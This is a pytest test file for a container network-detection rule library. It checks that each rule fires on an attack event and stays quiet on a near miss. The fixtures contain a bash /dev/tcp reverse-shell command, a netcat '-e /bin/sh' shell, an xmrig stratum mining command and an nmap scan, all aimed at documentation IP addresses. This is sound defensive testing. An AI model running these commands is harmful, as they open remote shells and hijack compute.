"""The shipped rule library: each rule fires on its attack and not on a near miss."""
from __future__ import annotations

import re

import pytest

from rules.fields import EVENT_TYPES
from rules.loader import load_rules, load_rules_text
from rules import DEFAULT_RULES_DIR

DEFAULT = DEFAULT_RULES_DIR
CTR = {"container.id": "3f4e5d6c7b8a", "container.image.repository": "ghcr.io/acme/api",
       "k8s.ns.name": "shop", "k8s.pod.name": "api-1", "k8s.pod.labels": {"app": "api"},
       "proc.exec_id": "e-1", "evt.time": 1_700_000_000_000_000_000, "evt.dir": "<",
       "evt.num": 1, "user.uid": 0, "user.name": "root"}
HOST = {**CTR, "container.id": "host", "container.image.repository": "", "k8s.ns.name": "",
        "k8s.pod.labels": {}}


def conn(sip: str, sport: int, *, proto: str = "tcp", etype: str = "connect", base=CTR,
         **kw) -> dict:
    e = {**base, "evt.type": etype, "evt.res": "SUCCESS", "evt.rawres": 0, "fd.type": "ipv4",
         "fd.typechar": "4", "fd.l4proto": proto, "fd.cip": "10.0.0.5", "fd.cport": 41000,
         "fd.sip": sip, "fd.sport": sport, "fd.lip": "10.0.0.5", "fd.lport": 41000,
         "fd.rip": sip, "fd.rport": sport, "proc.name": "curl", "proc.exepath": "/usr/bin/curl",
         "proc.cmdline": "curl x", "fd.name": f"10.0.0.5:41000->{sip}:{sport}"}
    e.update(kw)
    return e


def execve(name: str, args: str, base=CTR, **kw) -> dict:
    e = {**base, "evt.type": "execve", "evt.res": "SUCCESS", "evt.rawres": 0, "proc.name": name,
         "proc.exepath": f"/usr/bin/{name}", "proc.args": args,
         "proc.cmdline": f"{name} {args}".strip(), "proc.pname": "bash"}
    e.update(kw)
    return e


def listen(port: int, name: str = "app", base=CTR) -> dict:
    return {**base, "evt.type": "listen", "fd.type": "ipv4", "fd.l4proto": "tcp",
            "fd.sip": "0.0.0.0", "fd.sport": port, "fd.lip": "0.0.0.0", "fd.lport": port,
            "proc.name": name, "proc.exepath": f"/usr/bin/{name}", "proc.cmdline": name}


POD = {**CTR, "k8s.pod.uid": "6f1c2d3e-0000-4000-8000-000000000001", "k8s.sa.name": "default",
       "k8s.workload.kind": "Deployment", "k8s.workload.name": "api"}
API_PEER = {**POD, "k8s.peer.kind": "service", "k8s.peer.name": "kubernetes",
            "k8s.peer.ns.name": "default", "k8s.peer.svc.name": "kubernetes",
            "k8s.peer.svc.ns.name": "default"}
RESTRICTED = {**CTR, "k8s.pod.labels": {"app": "api", "netvigil.io/egress-policy": "strict"}}

CASES = {
    "Unauthorized Egress Connection": (
        conn("93.184.216.34", 443, base=RESTRICTED),
        conn("10.2.3.4", 443, base=RESTRICTED)),           # internal destination
    "Unexpected Listening Port in Container": (listen(4444), listen(8080)),
    "Reverse Shell Socket Redirected to Standard Streams": (
        conn("198.51.100.7", 4444, etype="dup2", **{"evt.rawres": 1, "proc.name": "bash"}),
        conn("198.51.100.7", 4444, etype="dup2", **{"evt.rawres": 5, "proc.name": "bash"})),
    "Reverse Shell Command Line": (
        execve("bash", "-c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
        execve("bash", "-c ls /dev/")),
    "Cloud Metadata Service Contacted from Container": (
        conn("169.254.169.254", 80), conn("169.254.169.254", 80, base=HOST)),
    "Connection to Crypto Mining Pool Port": (
        conn("45.9.148.1", 3333, base=HOST), conn("45.9.148.1", 8080, base=HOST)),
    "Crypto Mining Stratum Protocol in Command Line": (
        execve("xmrig", "-o stratum+tcp://pool.example:3333 -u w"),
        execve("xmrig", "--help")),
    "System Binary Making Network Connection": (
        conn("93.184.216.34", 443, base=HOST, **{"proc.name": "ls"}),
        conn("127.0.0.1", 443, base=HOST, **{"proc.name": "ls"})),
    "Unexpected UDP Traffic from Container": (
        conn("203.0.113.5", 9999, proto="udp", etype="sendto"),
        conn("203.0.113.5", 53, proto="udp", etype="sendto")),
    "SSH Connection to Non-Standard Port": (
        conn("203.0.113.5", 2222, base=HOST, **{"proc.name": "ssh"}),
        conn("203.0.113.5", 22, base=HOST, **{"proc.name": "ssh"})),
    "Interpreter Opened a Listening Socket": (listen(8000, "python3", HOST),
                                              listen(8000, "gunicorn", HOST)),
    "Packet Socket Created in Container": (
        {**CTR, "evt.type": "socket", "evt.arg.domain": "AF_PACKET", "evt.arg.type": "SOCK_RAW",
         "proc.name": "tcpdump"},
        {**HOST, "evt.type": "socket", "evt.arg.domain": "AF_PACKET", "evt.arg.type": "SOCK_RAW",
         "proc.name": "tcpdump"}),
    "Netcat or Socat Remote Code Execution": (
        execve("nc", "-e /bin/sh 198.51.100.7 4444"), execve("nc", "-zv 198.51.100.7 4444")),
    "Suspicious Network Tool Launched": (execve("nmap", "-sS 10.0.0.0/24"),
                                         execve("nslookup", "example.com")),
    "Unexpected Kubernetes API Server Connection from Pod": (
        conn("10.96.0.1", 443, **API_PEER),
        conn("10.96.0.1", 443, **{**API_PEER, "k8s.ns.name": "kube-system"})),
}


@pytest.fixture(scope="module")
def shipped():
    return load_rules([DEFAULT])


def test_every_shipped_rule_has_a_case(shipped) -> None:
    assert sorted(shipped.names) == sorted(CASES)


@pytest.mark.parametrize("name", sorted(CASES))
def test_fires_on_attack_not_on_near_miss(shipped, name: str) -> None:
    hit, miss = CASES[name]
    assert name in [m.rule for m in shipped.evaluate(hit)]
    assert name not in [m.rule for m in shipped.evaluate(miss)]


@pytest.mark.parametrize("name", sorted(CASES))
def test_rule_metadata(shipped, name: str) -> None:
    rule = shipped.rule(name)
    assert rule.desc and rule.enabled
    assert any(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in rule.tags)
    assert any(re.fullmatch(r"TA\d{4}", t) for t in rule.tags)
    assert rule.evt_types and rule.evt_types <= set(EVENT_TYPES)
    text, _ = rule.output.render(CASES[name][0])
    assert "<NA>" not in text.split("(")[0]  # the headline renders real values
    if rule.enforce is not None:
        assert rule.enforce.mode == "audit"


def test_enforcing_rules_are_audit_only_and_produce_requests(shipped) -> None:
    enforcing = sorted(r.name for r in shipped.rules if r.enforce is not None)
    assert len(enforcing) == 5
    m = next(m for m in shipped.evaluate(conn("169.254.169.254", 80)) if m.enforcement)
    assert m.enforcement.mode == "audit" and m.enforcement.cidrs == ("169.254.169.254/32",)


def test_tuning_by_overriding_lists_and_macros() -> None:
    extra = """
- list: netvigil_allowed_listen_ports
  items: [4444]
  override:
    items: append
- macro: allowed_egress_by_image
  condition: (container.image.repository = ghcr.io/acme/api and fd.sport = 443)
  override:
    condition: replace
"""
    texts = [p.read_text() for p in sorted(DEFAULT.glob("*.yaml"))]
    rs = load_rules_text("\n".join(texts) + extra)
    assert not rs.evaluate(listen(4444))
    assert not rs.evaluate(conn("93.184.216.34", 443, base=RESTRICTED))
    assert rs.evaluate(conn("93.184.216.34", 8443, base=RESTRICTED))


def _fired(shipped, event: dict) -> list[str]:
    return [m.rule for m in shipped.evaluate(event)]


def test_a_listening_port_the_pod_declares_is_expected(shipped) -> None:
    declared = {**listen(4444), "k8s.pod.ports": [4444], "k8s.pod.lport_declared": True}
    undeclared = {**listen(4444), "k8s.pod.ports": [8080], "k8s.pod.lport_declared": False}
    assert "Unexpected Listening Port in Container" not in _fired(shipped, declared)
    assert "Unexpected Listening Port in Container" in _fired(shipped, undeclared)


def test_interpreter_serving_its_declared_port_or_a_loopback_dev_server_is_ordinary(shipped) -> None:
    rule = "Interpreter Opened a Listening Socket"
    served = {**listen(8000, "python3"), "k8s.pod.ports": [8000], "k8s.pod.lport_declared": True}
    dev = {**listen(8000, "python3", HOST), "fd.lip": "127.0.0.1", "fd.sip": "127.0.0.1"}
    bind_shell = {**listen(4444, "python3"), "k8s.pod.ports": [8000], "k8s.pod.lport_declared": False}
    host_bind_shell = listen(4444, "perl", HOST)   # 0.0.0.0: reachable, nothing declares it
    assert rule not in _fired(shipped, served)
    assert rule not in _fired(shipped, dev)
    assert rule in _fired(shipped, bind_shell)
    assert rule in _fired(shipped, host_bind_shell)


def test_egress_policy_by_namespace_label(shipped) -> None:
    labelled_ns = {**CTR, "k8s.ns.labels": {"netvigil.io/egress-policy": "strict"}}
    assert "Unauthorized Egress Connection" in _fired(shipped, conn("93.184.216.34", 443, base=labelled_ns))
    assert "Unauthorized Egress Connection" not in _fired(shipped, conn("93.184.216.34", 443))


def test_system_binaries_include_falcos_coreutils_and_user_management(shipped) -> None:
    rule = "System Binary Making Network Connection"
    for name in ("base64", "shred", "chpasswd", "unix_chkpwd"):
        assert rule in _fired(shipped, conn("93.184.216.34", 443, base=HOST, **{"proc.name": name}))
    assert rule not in _fired(shipped, conn("93.184.216.34", 443, base=HOST, **{"proc.name": "id"}))


def test_api_server_rule_allows_expected_clients(shipped) -> None:
    rule = "Unexpected Kubernetes API Server Connection from Pod"
    assert rule not in _fired(shipped, conn("10.96.0.1", 443, **{**API_PEER, "k8s.sa.name": "netvigil"}))
    other = {**API_PEER, "k8s.peer.svc.name": "backend", "k8s.peer.name": "backend"}
    assert rule not in _fired(shipped, conn("10.96.0.9", 8080, **other))


def test_outputs_show_pod_namespace_and_image(shipped) -> None:
    for rule in shipped.rules:
        text = rule.output if isinstance(rule.output, str) else str(rule.output)
        for field in ("%k8s.pod.name", "%k8s.ns.name", "%container.image"):
            assert field in text, (rule.name, field)
